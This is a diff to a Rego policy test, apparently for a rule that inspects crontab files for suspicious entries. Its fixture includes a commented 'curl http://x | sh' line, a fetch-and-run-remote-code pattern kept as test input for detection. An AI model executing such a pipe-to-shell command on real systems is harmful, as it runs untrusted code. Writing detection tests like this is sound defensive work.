@@ -38,7 +38,7 @@ test_hidden_file if {
 }
 
 test_own_jobs if {
-	found := rule.finding with input as run("/etc/crontabs/root", "# curl http://x | sh\n0 3 * * * /usr/local/bin/backup --all\n")
+	found := rule.finding with input as run("/etc/crontabs/root", "# curl http://x | sh\n0 3 * * * /usr/local/bin/backup --all\n* * * * * curl -s http://127.0.0.1:8080/cron.php | python3 -m json.tool\n")
 	{x.severity | some x in found} == {"medium"}
 }
 
